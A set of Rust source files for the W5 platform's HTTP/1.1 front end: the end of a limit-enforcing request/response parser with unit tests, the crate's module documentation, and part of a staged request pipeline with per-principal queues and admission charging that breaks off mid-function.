    pub fn write_to<W: Write>(&self, w: &mut W, keep_alive: bool) -> Result<(), HttpError> {
        write!(w, "HTTP/1.1 {} {}\r\n", self.status.0, self.status.reason())?;
        for (k, v) in &self.headers {
            let name = k.split('#').next().unwrap_or(k);
            write!(w, "{name}: {v}\r\n")?;
        }
        write!(w, "content-length: {}\r\n", self.body.len())?;
        write!(w, "connection: {}\r\n", if keep_alive { "keep-alive" } else { "close" })?;
        write!(w, "\r\n")?;
        w.write_all(&self.body)?;
        w.flush()?;
        Ok(())
    }

    /// Read and parse one response (client side).
    pub fn read_from<R: BufRead>(r: &mut R, limits: &Limits) -> Result<Response, HttpError> {
        let line = read_line(r, limits.max_line)?;
        let mut parts = line.splitn(3, ' ');
        let version = parts.next().unwrap_or("");
        if !version.starts_with("HTTP/1.") {
            return Err(HttpError::Malformed("bad status line"));
        }
        let code: u16 = parts
            .next()
            .and_then(|c| c.parse().ok())
            .ok_or(HttpError::Malformed("bad status code"))?;
        let headers = read_headers(r, limits)?;
        let body = read_body(r, &headers, limits)?;
        Ok(Response { status: Status(code), headers, body })
    }

    /// Body as UTF-8 (lossy).
    pub fn body_string(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
}

/// Read one CRLF- (or LF-) terminated line, without the terminator.
fn read_line<R: BufRead>(r: &mut R, max: usize) -> Result<String, HttpError> {
    let mut buf = Vec::new();
    loop {
        let mut byte = [0u8; 1];
        match r.read(&mut byte)? {
            0 => {
                if buf.is_empty() {
                    return Ok(String::new());
                }
                return Err(HttpError::UnexpectedEof);
            }
            _ => {
                if byte[0] == b'\n' {
                    if buf.last() == Some(&b'\r') {
                        buf.pop();
                    }
                    return String::from_utf8(buf)
                        .map_err(|_| HttpError::Malformed("non-UTF8 header line"));
                }
                buf.push(byte[0]);
                if buf.len() > max {
                    return Err(HttpError::TooLarge("line"));
                }
            }
        }
    }
}

fn read_headers<R: BufRead>(
    r: &mut R,
    limits: &Limits,
) -> Result<BTreeMap<String, String>, HttpError> {
    let mut headers = BTreeMap::new();
    loop {
        let line = read_line(r, limits.max_line)?;
        if line.is_empty() {
            return Ok(headers);
        }
        if headers.len() >= limits.max_headers {
            return Err(HttpError::TooLarge("headers"));
        }
        let (name, value) = line
            .split_once(':')
            .ok_or(HttpError::Malformed("header without colon"))?;
        if name.is_empty() || name.contains(' ') {
            return Err(HttpError::Malformed("bad header name"));
        }
        let key = name.to_ascii_lowercase();
        let value = value.trim().to_string();
        // Repeated headers: cookie-style concatenation with `, `.
        headers
            .entry(key)
            .and_modify(|v: &mut String| {
                v.push_str(", ");
                v.push_str(&value);
            })
            .or_insert(value);
    }
}

fn read_body<R: BufRead>(
    r: &mut R,
    headers: &BTreeMap<String, String>,
    limits: &Limits,
) -> Result<Bytes, HttpError> {
    if let Some(te) = headers.get("transfer-encoding") {
        if te.eq_ignore_ascii_case("chunked") {
            return read_chunked(r, limits);
        }
        return Err(HttpError::Malformed("unsupported transfer-encoding"));
    }
    let len: usize = match headers.get("content-length") {
        None => return Ok(Bytes::new()),
        Some(v) => v
            .parse()
            .map_err(|_| HttpError::Malformed("bad content-length"))?,
    };
    if len > limits.max_body {
        return Err(HttpError::TooLarge("body"));
    }
    let mut buf = vec![0u8; len];
    r.read_exact(&mut buf).map_err(|e| {
        if e.kind() == std::io::ErrorKind::UnexpectedEof {
            HttpError::UnexpectedEof
        } else {
            HttpError::Io(e)
        }
    })?;
    Ok(Bytes::from(buf))
}

fn read_chunked<R: BufRead>(r: &mut R, limits: &Limits) -> Result<Bytes, HttpError> {
    let mut out = Vec::new();
    loop {
        let line = read_line(r, limits.max_line)?;
        let size_str = line.split(';').next().unwrap_or("").trim();
        let size = usize::from_str_radix(size_str, 16)
            .map_err(|_| HttpError::Malformed("bad chunk size"))?;
        if out.len().saturating_add(size) > limits.max_body {
            return Err(HttpError::TooLarge("chunked body"));
        }
        if size == 0 {
            // Trailers until blank line.
            loop {
                if read_line(r, limits.max_line)?.is_empty() {
                    return Ok(Bytes::from(out));
                }
            }
        }
        let start = out.len();
        out.resize(start + size, 0);
        r.read_exact(&mut out[start..]).map_err(|_| HttpError::UnexpectedEof)?;
        let crlf = read_line(r, limits.max_line)?;
        if !crlf.is_empty() {
            return Err(HttpError::Malformed("chunk not CRLF-terminated"));
        }
    }
}

/// Wrap a stream in a sized buffered reader.
pub fn buf_reader<R: Read>(r: R) -> BufReader<R> {
    BufReader::with_capacity(16 * 1024, r)
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Cursor;

    fn parse_req(raw: &str) -> Result<Request, HttpError> {
        let mut r = Cursor::new(raw.as_bytes().to_vec());
        Request::read_from(&mut r, &Limits::default())
    }

    #[test]
    fn simple_get() {
        let req = parse_req("GET /app/photo?user=bob&n=3 HTTP/1.1\r\nhost: w5.org\r\n\r\n").unwrap();
        assert_eq!(req.method, Method::Get);
        assert_eq!(req.path, "/app/photo");
        assert_eq!(req.query_param("user").as_deref(), Some("bob"));
        assert_eq!(req.query_param("n").as_deref(), Some("3"));
        assert_eq!(req.header("host"), Some("w5.org"));
        assert!(req.body.is_empty());
        assert!(req.keep_alive());
    }

    #[test]
    fn post_with_body_and_form() {
        let req = parse_req(
            "POST /login HTTP/1.1\r\ncontent-length: 24\r\nconnection: close\r\n\r\nuser=bob&password=s3cret",
        )
        .unwrap();
        assert_eq!(req.method, Method::Post);
        assert_eq!(req.form_param("user").as_deref(), Some("bob"));
        assert_eq!(req.form_param("password").as_deref(), Some("s3cret"));
        assert!(!req.keep_alive());
    }

    #[test]
    fn percent_decoded_path() {
        let req = parse_req("GET /files/my%20photo.jpg HTTP/1.1\r\n\r\n").unwrap();
        assert_eq!(req.path, "/files/my photo.jpg");
    }

    #[test]
    fn chunked_body() {
        let raw = "POST /x HTTP/1.1\r\ntransfer-encoding: chunked\r\n\r\n5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n";
        let req = parse_req(raw).unwrap();
        assert_eq!(&req.body[..], b"hello world");
    }

    #[test]
    fn malformed_requests_rejected() {
        assert!(matches!(parse_req("BANANA / HTTP/1.1\r\n\r\n"), Err(HttpError::UnsupportedMethod(_))));
        assert!(parse_req("GET /\r\n\r\n").is_err());
        assert!(parse_req("GET noslash HTTP/1.1\r\n\r\n").is_err());
        assert!(parse_req("GET / HTTP/2.0\r\n\r\n").is_err());
        assert!(parse_req("GET / HTTP/1.1\r\nbad header\r\n\r\n").is_err());
        assert!(parse_req("GET / HTTP/1.1 EXTRA\r\n\r\n").is_err());
    }

    #[test]
    fn limits_enforced() {
        let long_line = format!("GET /{} HTTP/1.1\r\n\r\n", "a".repeat(10_000));
        assert!(matches!(parse_req(&long_line), Err(HttpError::TooLarge(_))));

        let mut many_headers = String::from("GET / HTTP/1.1\r\n");
        for i in 0..200 {
            many_headers.push_str(&format!("x-h{i}: v\r\n"));
        }
        many_headers.push_str("\r\n");
        assert!(matches!(parse_req(&many_headers), Err(HttpError::TooLarge(_))));

        let big_body = "POST / HTTP/1.1\r\ncontent-length: 999999999\r\n\r\n";
        assert!(matches!(parse_req(big_body), Err(HttpError::TooLarge(_))));
    }

    #[test]
    fn truncated_body_is_eof() {
        assert!(matches!(
            parse_req("POST / HTTP/1.1\r\ncontent-length: 10\r\n\r\nshort"),
            Err(HttpError::UnexpectedEof)
        ));
    }

    #[test]
    fn response_roundtrip() {
        let resp = Response::html("<h1>hi</h1>").with_header("x-w5-app", "photo");
        let mut buf = Vec::new();
        resp.write_to(&mut buf, true).unwrap();
        let mut r = Cursor::new(buf);
        let parsed = Response::read_from(&mut r, &Limits::default()).unwrap();
        assert_eq!(parsed.status, Status::OK);
        assert_eq!(parsed.header("x-w5-app"), Some("photo"));
        assert_eq!(parsed.body_string(), "<h1>hi</h1>");
        assert_eq!(parsed.header("connection"), Some("keep-alive"));
    }

    #[test]
    fn request_roundtrip() {
        let mut req = Request::get("/a/b");
        req.query_raw = "x=1".into();
        req.headers.insert("host".into(), "w5.org".into());
        let mut buf = Vec::new();
        req.write_to(&mut buf).unwrap();
        let mut r = Cursor::new(buf);
        let parsed = Request::read_from(&mut r, &Limits::default()).unwrap();
        assert_eq!(parsed.path, "/a/b");
        assert_eq!(parsed.query_raw, "x=1");
        assert_eq!(parsed.header("host"), Some("w5.org"));
    }

    #[test]
    fn multiple_set_cookies_written() {
        use crate::cookie::SetCookie;
        let mut resp = Response::new(Status::OK);
        resp.add_set_cookie(&SetCookie::session("sid", "abc"));
        resp.add_set_cookie(&SetCookie::session("theme", "dark"));
        let mut buf = Vec::new();
        resp.write_to(&mut buf, false).unwrap();
        let s = String::from_utf8(buf).unwrap();
        assert_eq!(s.matches("set-cookie:").count(), 2, "{s}");
    }

    #[test]
    fn status_reasons() {
        assert_eq!(Status::OK.reason(), "OK");
        assert_eq!(Status::NOT_FOUND.reason(), "Not Found");
        assert_eq!(Status(599).reason(), "Unknown");
        assert!(Status::OK.is_success());
        assert!(!Status::FORBIDDEN.is_success());
    }
}
