//! # w5-net — the HTTP/1.1 front end
//!
//! W5's contract with the outside world (paper §2): "all of W5 should have
//! DNS and HTTP front-ends so that users can interact with a W5 application
//! with today's Web clients." This crate is that front end, written from
//! scratch on `std::net`:
//!
//! * [`http`] — request/response types and a careful, limit-enforcing
//!   HTTP/1.1 parser (request line, headers, `Content-Length` and chunked
//!   bodies, keep-alive).
//! * [`encoding`] — percent-encoding, query strings and
//!   `application/x-www-form-urlencoded` forms.
//! * [`cookie`] — cookie parsing and `Set-Cookie` serialization (the
//!   platform authenticates users from cookies, §2).
//! * [`router`] — a small path router with `:param` captures and a
//!   405-aware [`router::RouteOutcome`].
//! * [`pipeline`] — the staged request engine: bounded per-principal-class
//!   queues, deficit-round-robin shard worker pools, and an [`Admission`]
//!   hook that charges kernel resource containers at the socket boundary.
//! * [`server`] — the TCP front end (accept loop, keep-alive, graceful
//!   shutdown) over a pluggable [`Serve`] engine. [`Server`] runs the
//!   pipeline; [`ReferenceServer`] keeps the seed's
//!   thread-per-connection semantics as the differential-oracle baseline.
//! * [`client`] — a blocking client used by the experiment harnesses and by
//!   provider-to-provider federation.
//!
//! The design follows the session's networking guides: simplicity and
//! robustness over cleverness — a small number of obvious state machines,
//! explicit limits on every input (header count, line length, body size),
//! and no unbounded allocation driven by peer-controlled values. There is
//! deliberately no async runtime: a thread-per-connection front end with a
//! fixed worker pool behind it keeps the trusted computing base legible,
//! and the experiments measure platform overhead, not connection-scaling
//! limits.

#![forbid(unsafe_code)]

pub mod client;
pub mod cookie;
pub mod dns;
pub mod encoding;
pub mod http;
pub mod pipeline;
pub mod router;
pub mod server;

/// The session cookie name the platform issues and the pipeline's
/// admission stage classifies by. Lives here so `w5-net` can classify
/// without depending on the platform crate (which depends on this one).
pub const SESSION_COOKIE_NAME: &str = "w5_session";

pub use client::HttpClient;
pub use dns::{DnsServer, Zone};
pub use cookie::{Cookie, SetCookie};
pub use http::{HttpError, Method, Request, Response, Status};
pub use pipeline::{
    Admission, ChargeDenied, ChargePoint, InlineServe, OpenAdmission, Pipeline, PipelineConfig,
    PipelineSnapshot, PipelineStats, PrincipalClass, Serve,
};
pub use router::{allow_header, RouteMatch, RouteOutcome, Router};
pub use server::{Handler, ReferenceServer, Server, ServerConfig, ServerHandle};
