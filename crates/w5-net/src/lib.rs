//! # w5-net — the HTTP/1.1 front end
//!
//! W5's contract with the outside world (paper §2): "all of W5 should have
//! DNS and HTTP front-ends so that users can interact with a W5 application
//! with today's Web clients." This crate is that front end, written from
//! scratch on `std::net`:
//!
//! * [`http`] — request/response types and a careful, limit-enforcing
//!   HTTP/1.1 parser (request line, headers, `Content-Length` and chunked
//!   bodies, keep-alive).
//! * [`encoding`] — percent-encoding, query strings and
//!   `application/x-www-form-urlencoded` forms.
//! * [`cookie`] — cookie parsing and `Set-Cookie` serialization (the
//!   platform authenticates users from cookies, §2).
//! * [`router`] — a small path router with `:param` captures.
//! * [`server`] — a threaded, keep-alive-capable server with graceful
//!   shutdown.
//! * [`client`] — a blocking client used by the experiment harnesses and by
//!   provider-to-provider federation.
//!
//! The design follows the session's networking guides: simplicity and
//! robustness over cleverness — a small number of obvious state machines,
//! explicit limits on every input (header count, line length, body size),
//! and no unbounded allocation driven by peer-controlled values. There is
//! deliberately no async runtime: a thread-per-connection server keeps the
//! trusted computing base legible, and the experiments measure platform
//! overhead, not connection-scaling limits.

#![forbid(unsafe_code)]

pub mod client;
pub mod cookie;
pub mod dns;
pub mod encoding;
pub mod http;
pub mod router;
pub mod server;

pub use client::HttpClient;
pub use dns::{DnsServer, Zone};
pub use cookie::{Cookie, SetCookie};
pub use http::{HttpError, Method, Request, Response, Status};
pub use router::{RouteMatch, Router};
pub use server::{Handler, Server, ServerConfig, ServerHandle};
