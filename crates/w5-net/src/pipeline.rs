//! Staged request pipeline: bounded worker pools, label-aware admission
//! control, and container-backed backpressure.
//!
//! The seed server dedicated one OS thread to every connection, so a rogue
//! principal could occupy every thread with slow requests and starve
//! honest ones. This module splits request handling into explicit stages:
//!
//! 1. **Classify** — an [`Admission`] policy maps the parsed request to a
//!    [`PrincipalClass`] (anonymous, session user, or target app).
//! 2. **Charge (request)** — the same policy charges the request's bytes
//!    against the principal's kernel resource container; a quota denial
//!    becomes 429 with a fault-report body, before any queueing.
//! 3. **Enqueue** — the class hashes to a worker-pool shard and joins a
//!    *per-class* bounded queue. A full class queue (or a full class
//!    table) sheds with 503 + `Retry-After` computed from that class's
//!    own depth — never from another principal's, so queue occupancy is
//!    not a cross-principal covert channel.
//! 4. **Execute** — shard workers drain classes by deficit round-robin,
//!    so a flooding class gets at most `quantum` consecutive requests
//!    before the scheduler rotates to the next class.
//! 5. **Charge (response)** — response bytes are charged before the body
//!    is released; a denial withholds the body and answers 429.
//!
//! The connection front end (accept loop, keep-alive, parsing) is
//! unchanged and talks to either engine through the [`Serve`] trait:
//! [`Pipeline`] here, or the seed's inline thread-per-connection semantics
//! via [`InlineServe`]. `w5_sim::netdiff` proves the two engines
//! request/response equivalent with a four-arm differential oracle.

use crate::http::{Request, Response, Status};
use crate::server::Handler;
use std::collections::{BTreeMap, VecDeque};
use std::net::SocketAddr;
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::sync::mpsc::{sync_channel, Receiver, RecvTimeoutError, SyncSender};
use std::sync::Arc;
use std::thread::JoinHandle;
use std::time::Duration;
use w5_sync::{lockdep, Mutex};

/// A request-serving engine behind the connection front end. Implemented
/// by [`Pipeline`] (staged, bounded) and [`InlineServe`] (the seed's
/// handler-on-the-connection-thread semantics).
pub trait Serve: Send + Sync + 'static {
    /// Serve one parsed request to completion.
    fn serve(&self, request: Request, peer: SocketAddr) -> Response;
    /// Stop background machinery (worker pools). Idempotent; the default
    /// is a no-op for engines with no threads of their own.
    fn stop(&self) {}
}

/// The seed engine: run the handler directly on the calling (connection)
/// thread. Kept verbatim-equivalent to the pre-pipeline server so the
/// differential oracle has a reference arm.
pub struct InlineServe {
    handler: Arc<dyn Handler>,
}

impl InlineServe {
    /// Wrap a handler.
    pub fn new(handler: Arc<dyn Handler>) -> InlineServe {
        InlineServe { handler }
    }
}

impl Serve for InlineServe {
    fn serve(&self, request: Request, peer: SocketAddr) -> Response {
        self.handler.handle(request, peer)
    }
}

/// The principal a request is billed to and queued under. Classes — not
/// connections — are the unit of fairness and backpressure.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum PrincipalClass {
    /// No session cookie and no app target.
    Anonymous,
    /// An authenticated session user.
    Session(String),
    /// A request addressed to an installed app (`"dev/app"`).
    App(String),
}

impl PrincipalClass {
    /// Stable queue/telemetry key: `"anon"`, `"session:<user>"`,
    /// `"app:<key>"`.
    pub fn key(&self) -> String {
        match self {
            PrincipalClass::Anonymous => "anon".to_string(),
            PrincipalClass::Session(user) => format!("session:{user}"),
            PrincipalClass::App(key) => format!("app:{key}"),
        }
    }

    fn shard(&self, shards: usize) -> usize {
        (fnv64(self.key().as_bytes()) % shards as u64) as usize
    }
}

const FNV_OFFSET: u64 = 0xcbf2_9ce4_8422_2325;
const FNV_PRIME: u64 = 0x0000_0100_0000_01B3;

fn fnv64(bytes: &[u8]) -> u64 {
    let mut h = FNV_OFFSET;
    for &b in bytes {
        h ^= b as u64;
        h = h.wrapping_mul(FNV_PRIME);
    }
    h
}

/// Where in the pipeline a charge lands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ChargePoint {
    /// Admission: the request's wire bytes, before queueing.
    Request,
    /// Completion: the response body's bytes, before it is released.
    Response,
}

/// A refused charge. `detail` feeds the 429 fault-report body unless
/// `redacted` (set when the principal's labels forbid exporting it).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ChargeDenied {
    /// Human-readable reason (e.g. which resource ran out).
    pub detail: String,
    /// Replace the detail with `<redacted>` in the response body.
    pub redacted: bool,
    /// `Retry-After` seconds to suggest (epoch-based policies know when
    /// the budget refills).
    pub retry_after: u64,
}

/// Admission policy: classifies requests into principals and charges
/// resource containers. The policy that bridges to the platform kernel
/// lives in `w5-platform` (`NetAdmission`); [`OpenAdmission`] is the
/// classify-only default.
pub trait Admission: Send + Sync + 'static {
    /// Map a request to its principal class.
    fn classify(&self, request: &Request, peer: SocketAddr) -> PrincipalClass;
    /// Charge `bytes` at `point` against the class's resource container.
    fn charge(
        &self,
        class: &PrincipalClass,
        point: ChargePoint,
        bytes: u64,
    ) -> Result<(), ChargeDenied>;
    /// Secrecy label for the class's queue telemetry; events recorded
    /// under it are clearance-gated in ledger views, so a hidden
    /// principal's queue activity stays hidden.
    fn telemetry_label(&self, class: &PrincipalClass) -> w5_obs::ObsLabel {
        let _ = class;
        w5_obs::ObsLabel::empty()
    }
}

/// Everyone is anonymous-or-session by cookie, nothing is ever charged.
/// This is the engine-equivalence configuration: with charging disabled
/// the pipeline must be request/response identical to [`InlineServe`].
pub struct OpenAdmission;

impl Admission for OpenAdmission {
    fn classify(&self, request: &Request, _peer: SocketAddr) -> PrincipalClass {
        match request.cookie(crate::SESSION_COOKIE_NAME) {
            Some(token) if !token.is_empty() => PrincipalClass::Session(token.to_string()),
            _ => PrincipalClass::Anonymous,
        }
    }

    fn charge(
        &self,
        _class: &PrincipalClass,
        _point: ChargePoint,
        _bytes: u64,
    ) -> Result<(), ChargeDenied> {
        Ok(())
    }
}

/// Pipeline tuning knobs.
#[derive(Clone)]
pub struct PipelineConfig {
    /// Total worker threads, split across shards.
    pub workers: usize,
    /// Lock stripes over the class queues (each with its own worker set).
    pub shards: usize,
    /// Maximum queued requests per principal class; excess sheds with 503.
    pub queue_depth: usize,
    /// Maximum live classes per shard; new classes beyond this shed.
    pub max_classes: usize,
    /// Deficit round-robin quantum: consecutive requests one class may
    /// take before the scheduler rotates.
    pub quantum: u64,
    /// Minimum `Retry-After` seconds on a shed.
    pub retry_after_floor: u64,
    /// How long a connection thread waits for its queued request before
    /// answering 503 on its behalf.
    pub response_timeout: Duration,
    /// Fault injector for the pipeline's own sites (`net.queue_full`,
    /// `net.slow_worker`). Deliberately *not* the ambient thread
    /// injector: handler-stage faults are captured per-job at submit and
    /// re-installed on the worker, so arming handler sites stays
    /// deterministic across engines while pipeline faults are opt-in.
    pub chaos: Option<Arc<w5_chaos::Injector>>,
}

impl Default for PipelineConfig {
    fn default() -> Self {
        PipelineConfig {
            workers: 8,
            shards: 2,
            queue_depth: 64,
            max_classes: 64,
            quantum: 4,
            retry_after_floor: 1,
            response_timeout: Duration::from_secs(30),
            chaos: None,
        }
    }
}

impl std::fmt::Debug for PipelineConfig {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("PipelineConfig")
            .field("workers", &self.workers)
            .field("shards", &self.shards)
            .field("queue_depth", &self.queue_depth)
            .field("max_classes", &self.max_classes)
            .field("quantum", &self.quantum)
            .field("retry_after_floor", &self.retry_after_floor)
            .field("response_timeout", &self.response_timeout)
            .field("chaos", &self.chaos.is_some())
            .finish()
    }
}

impl PipelineConfig {
    /// Defaults overridden by `W5_NET_WORKERS`, `W5_NET_SHARDS`,
    /// `W5_NET_QUEUE_DEPTH` (documented in the README's tuning table).
    pub fn from_env() -> PipelineConfig {
        fn env_usize(name: &str) -> Option<usize> {
            std::env::var(name).ok()?.trim().parse().ok()
        }
        let mut c = PipelineConfig::default();
        if let Some(v) = env_usize("W5_NET_WORKERS") {
            c.workers = v.max(1);
        }
        if let Some(v) = env_usize("W5_NET_SHARDS") {
            c.shards = v.max(1);
        }
        if let Some(v) = env_usize("W5_NET_QUEUE_DEPTH") {
            c.queue_depth = v.max(1);
        }
        c
    }
}

/// Counters for shed/charge decisions; cheap enough to keep always-on.
#[derive(Debug, Default)]
pub struct PipelineStats {
    /// Requests admitted to a class queue.
    pub admitted: AtomicU64,
    /// Requests shed at admission (queue or class table full).
    pub shed: AtomicU64,
    /// Requests refused by the resource container (either charge point).
    pub quota_denied: AtomicU64,
    /// Responses completed by workers.
    pub served: AtomicU64,
    /// Handler panics converted to 500s.
    pub panics: AtomicU64,
}

/// A point-in-time stats snapshot.
#[derive(Clone, Copy, Debug, PartialEq, Eq, serde::Serialize)]
pub struct PipelineSnapshot {
    /// Requests admitted to a class queue.
    pub admitted: u64,
    /// Requests shed at admission.
    pub shed: u64,
    /// Requests refused by the resource container.
    pub quota_denied: u64,
    /// Responses completed by workers.
    pub served: u64,
    /// Handler panics converted to 500s.
    pub panics: u64,
}

impl PipelineStats {
    /// Read all counters.
    pub fn snapshot(&self) -> PipelineSnapshot {
        PipelineSnapshot {
            admitted: self.admitted.load(Ordering::Relaxed),
            shed: self.shed.load(Ordering::Relaxed),
            quota_denied: self.quota_denied.load(Ordering::Relaxed),
            served: self.served.load(Ordering::Relaxed),
            panics: self.panics.load(Ordering::Relaxed),
        }
    }
}

/// One queued request, waiting for a shard worker.
struct Job {
    request: Request,
    peer: SocketAddr,
    class: PrincipalClass,
    /// Capacity-1 rendezvous back to the connection thread.
    resp_tx: SyncSender<Response>,
    /// The submitting thread's ambient fault injector, re-installed on
    /// the worker around handler execution so chaos streams follow the
    /// request, not the executor.
    injector: Option<Arc<w5_chaos::Injector>>,
    /// The submitting thread's innermost span (the connection's HTTP
    /// root), adopted by the worker so handler-side spans nest under it
    /// exactly as they did when the handler ran inline.
    trace: Option<w5_obs::TraceContext>,
}

/// A per-class FIFO with its deficit round-robin budget.
struct ClassQueue {
    jobs: VecDeque<Job>,
    deficit: u64,
}

/// Queue state for one shard, under one `net.pipeline` lock stripe.
struct ShardState {
    queues: BTreeMap<String, ClassQueue>,
    /// Round-robin order over live class keys (each key appears once).
    order: VecDeque<String>,
    /// Total queued jobs across classes (gauge for tests/benches).
    depth: usize,
}

struct Shard {
    state: Mutex<ShardState>,
    /// Capacity-1 wake hints, one per worker. `try_send` from submit;
    /// a full channel means a wake is already pending, so no hint is
    /// ever lost. (The vendored lock shim has no condvar.)
    wake: Vec<SyncSender<()>>,
    busy: AtomicUsize,
    workers: usize,
}

/// The staged engine: bounded per-class queues feeding fixed shard
/// worker pools. Construct with [`Pipeline::start`]; it implements
/// [`Serve`] so the TCP front end (or a test harness) can drive it.
pub struct Pipeline {
    config: PipelineConfig,
    handler: Arc<dyn Handler>,
    admission: Arc<dyn Admission>,
    shards: Vec<Shard>,
    workers: Mutex<Vec<JoinHandle<()>>>,
    stopped: AtomicBool,
    /// Shed/charge counters.
    pub stats: PipelineStats,
}

impl Pipeline {
    /// Spawn the worker pool and return the engine. Workers inherit the
    /// caller's scoped ledger and lock-order recorder, so harness scopes
    /// (`w5_obs::scoped`, `lockdep::scoped`) see pipeline activity.
    pub fn start(
        config: PipelineConfig,
        handler: Arc<dyn Handler>,
        admission: Arc<dyn Admission>,
    ) -> Arc<Pipeline> {
        let mut config = config;
        config.workers = config.workers.max(1);
        config.shards = config.shards.clamp(1, config.workers);
        config.quantum = config.quantum.max(1);
        config.queue_depth = config.queue_depth.max(1);
        config.max_classes = config.max_classes.max(1);

        let shard_count = config.shards;
        let mut shards = Vec::with_capacity(shard_count);
        let mut wake_rxs: Vec<Vec<Receiver<()>>> = Vec::with_capacity(shard_count);
        for s in 0..shard_count {
            // Split workers evenly; the first (workers % shards) shards
            // take the remainder.
            let per = config.workers / shard_count
                + if s < config.workers % shard_count { 1 } else { 0 };
            let per = per.max(1);
            let mut wake = Vec::with_capacity(per);
            let mut rxs = Vec::with_capacity(per);
            for _ in 0..per {
                let (tx, rx) = sync_channel::<()>(1);
                wake.push(tx);
                rxs.push(rx);
            }
            shards.push(Shard {
                state: Mutex::with_index(
                    "net.pipeline",
                    s as u32,
                    ShardState { queues: BTreeMap::new(), order: VecDeque::new(), depth: 0 },
                ),
                wake,
                busy: AtomicUsize::new(0),
                workers: per,
            });
            wake_rxs.push(rxs);
        }

        let pipeline = Arc::new(Pipeline {
            config,
            handler,
            admission,
            shards,
            workers: Mutex::new("net.pipeline.worker", Vec::new()),
            stopped: AtomicBool::new(false),
            stats: PipelineStats::default(),
        });

        let ledger = w5_obs::current_scoped();
        let recorder = lockdep::current_scoped();
        let mut handles = Vec::new();
        for (s, rxs) in wake_rxs.into_iter().enumerate() {
            for (w, rx) in rxs.into_iter().enumerate() {
                let p = Arc::clone(&pipeline);
                let ledger = ledger.clone();
                let recorder = recorder.clone();
                let handle = std::thread::Builder::new()
                    .name(format!("w5-pipe-{s}-{w}"))
                    .spawn(move || {
                        let _obs = ledger.map(w5_obs::scoped);
                        let _dep = recorder.map(lockdep::scoped);
                        worker_loop(&p, s, rx);
                    })
                    .expect("spawn pipeline worker");
                handles.push(handle);
            }
        }
        *pipeline.workers.lock() = handles;
        pipeline
    }

    /// Run one request through classify → charge → enqueue → execute →
    /// charge, blocking the calling (connection) thread until the
    /// response is ready or `response_timeout` passes.
    pub fn submit(&self, request: Request, peer: SocketAddr) -> Response {
        if self.stopped.load(Ordering::SeqCst) {
            return shed_response("shutting down", self.config.retry_after_floor);
        }
        let class = self.admission.classify(&request, peer);
        let label = self.admission.telemetry_label(&class);
        // Wire-cost estimate: request line + body, plus a small fixed
        // overhead for headers we don't re-serialize.
        let req_bytes = (request.path.len() + request.body.len() + 64) as u64;
        if let Err(denied) = self.admission.charge(&class, ChargePoint::Request, req_bytes) {
            self.stats.quota_denied.fetch_add(1, Ordering::Relaxed);
            return quota_response(&class, &denied);
        }

        let shard_ix = class.shard(self.shards.len());
        let shard = &self.shards[shard_ix];
        let forced_full = self
            .config
            .chaos
            .as_ref()
            .map(|c| c.roll(w5_chaos::Site::NetQueueFull).is_some())
            .unwrap_or(false);
        let (resp_tx, resp_rx) = sync_channel::<Response>(1);
        let key = class.key();
        let verdict = {
            let mut st = shard.state.lock();
            let depth = st.queues.get(&key).map(|q| q.jobs.len()).unwrap_or(0);
            let table_full =
                !st.queues.contains_key(&key) && st.queues.len() >= self.config.max_classes;
            if forced_full || depth >= self.config.queue_depth || table_full {
                Err(depth)
            } else {
                if !st.queues.contains_key(&key) {
                    st.order.push_back(key.clone());
                    st.queues
                        .insert(key.clone(), ClassQueue { jobs: VecDeque::new(), deficit: 0 });
                }
                st.depth += 1;
                let q = st.queues.get_mut(&key).expect("just inserted");
                q.jobs.push_back(Job {
                    request,
                    peer,
                    class: class.clone(),
                    resp_tx,
                    injector: w5_chaos::current(),
                    trace: w5_obs::current_context(),
                });
                Ok(q.jobs.len() as u64)
            }
        };

        match verdict {
            Err(depth) => {
                // Retry-After derives from THIS class's depth and static
                // pool geometry only — another principal's queue must not
                // modulate it (see tests/noninterference.rs).
                let retry = self.retry_after(depth, shard.workers);
                self.stats.shed.fetch_add(1, Ordering::Relaxed);
                w5_obs::record(
                    &label,
                    w5_obs::EventKind::QueueShed {
                        class: key,
                        shard: shard_ix as u64,
                        depth: depth as u64,
                        retry_after: retry,
                    },
                );
                shed_response("class queue full: request shed", retry)
            }
            Ok(depth) => {
                self.stats.admitted.fetch_add(1, Ordering::Relaxed);
                w5_obs::record(
                    &label,
                    w5_obs::EventKind::QueueAdmit { class: key, shard: shard_ix as u64, depth },
                );
                for w in &shard.wake {
                    let _ = w.try_send(());
                }
                lockdep::blocking("net.pipeline.await_response");
                match resp_rx.recv_timeout(self.config.response_timeout) {
                    Ok(resp) => resp,
                    Err(RecvTimeoutError::Timeout) | Err(RecvTimeoutError::Disconnected) => {
                        shed_response(
                            "request timed out in pipeline",
                            self.config.retry_after_floor,
                        )
                    }
                }
            }
        }
    }

    fn retry_after(&self, class_depth: usize, shard_workers: usize) -> u64 {
        self.config.retry_after_floor + (class_depth / shard_workers.max(1)) as u64
    }

    /// Total queued (not yet executing) requests, summed over shards.
    /// Trusted-observer gauge for tests and benches.
    pub fn queue_depth(&self) -> usize {
        self.shards.iter().map(|s| s.state.lock().depth).sum()
    }

    /// Workers currently executing a request, summed over shards.
    pub fn busy_workers(&self) -> usize {
        self.shards.iter().map(|s| s.busy.load(Ordering::Relaxed)).sum()
    }

    /// Drain queues, stop workers, and answer any still-queued requests
    /// with 503. Idempotent.
    pub fn stop(&self) {
        if self.stopped.swap(true, Ordering::SeqCst) {
            return;
        }
        for shard in &self.shards {
            for w in &shard.wake {
                let _ = w.try_send(());
            }
        }
        let handles: Vec<JoinHandle<()>> = self.workers.lock().drain(..).collect();
        for h in handles {
            let _ = h.join();
        }
        // Workers drain their queues before exiting; anything that raced
        // in after the final drain is answered here so no connection
        // thread waits out its full response timeout.
        for shard in &self.shards {
            let mut st = shard.state.lock();
            let keys: Vec<String> = st.queues.keys().cloned().collect();
            for key in keys {
                if let Some(mut q) = st.queues.remove(&key) {
                    while let Some(job) = q.jobs.pop_front() {
                        let _ = job
                            .resp_tx
